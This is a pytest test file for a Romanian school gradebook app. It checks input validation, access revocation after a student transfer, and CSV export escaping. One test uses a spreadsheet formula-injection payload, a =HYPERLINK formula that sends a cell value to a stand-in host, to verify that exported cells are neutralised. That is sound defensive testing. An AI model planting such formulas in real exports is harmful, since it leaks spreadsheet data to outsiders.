"""Hand-typed junk in URLs and query strings gets a clear answer, never a server error; a former
class master loses the documents of a transferred student; CSV cells never run as formulas."""

from __future__ import annotations

from datetime import date

import pytest

from schema.operations.enrolment import transfer_student
from schema.operations.marks import change_mark, record_mark
from security import policy
from tests.factories import make_user

HUGE = "9" * 25


@pytest.fixture(autouse=True)
def _frozen_today(monkeypatch):
    monkeypatch.setattr("security.access.today", lambda: date(2025, 11, 20))


@pytest.mark.parametrize("url", [
    f"/diriginte/clasa/{HUGE}", f"/catalogul-meu/{HUGE}", f"/situatie/elev/{HUGE}",
    f"/documente/elev/{HUGE}/situatie.pdf", "/istoric/marks/²", f"/istoric/marks/{HUGE}",
])
def test_out_of_range_or_unicode_ids_are_not_found(app, school, client_for, url):
    auditor = make_user(school.school, policy.AUDITOR)
    for user in (school.class_master, school.teacher, auditor):
        assert client_for(user).get(url).status_code in (403, 404), (user, url)


def test_extreme_dates_are_ignored_or_not_found(app, school, client_for):
    auditor = make_user(school.school, policy.AUDITOR)
    client = client_for(auditor)
    for query in ("pana_la=9999-12-31", "de_la=0001-01-01"):
        page = client.get(f"/istoric/?{query}")
        assert page.status_code == 200 and "filtrul a fost ignorat" in page.get_data(as_text=True)
        assert client.get(f"/istoric/export.csv?{query}").status_code == 200
    teacher = client_for(school.teacher)
    assert teacher.get(f"/documente/profesor/{school.teacher.id}/condica.pdf?zi=9999-12-31").status_code == 404
    assert teacher.get(f"/documente/profesor/{school.teacher.id}/condica.pdf?perioada=²").status_code in (200, 404)


def test_a_former_class_master_no_longer_prints_a_transferred_students_documents(app, school, client_for):
    client = client_for(school.class_master)
    url = f"/documente/elev/{school.student.id}/situatie.pdf"
    assert client.get(url).status_code == 200
    transfer_student(school.secretary, school.enrolment, school.other_class, on=date(2025, 11, 20),
                     reason="Transfer la cererea părinților")
    assert client.get(url).status_code == 404


def test_history_csv_cells_never_start_a_formula(app, school, client_for):
    mark = record_mark(school.teacher, school.enrolment, school.maths, given_on=date(2025, 11, 3), value=7)
    change_mark(school.teacher, mark, value=9, reason='=HYPERLINK("http://x.example/?"&A1,"click")')
    auditor = make_user(school.school, policy.AUDITOR)
    text = client_for(auditor).get("/istoric/export.csv?tabel=marks").get_data().decode("utf-8-sig")
    assert "'=HYPERLINK(" in text
    assert ';=HYPERLINK(' not in text and '"=HYPERLINK(' not in text
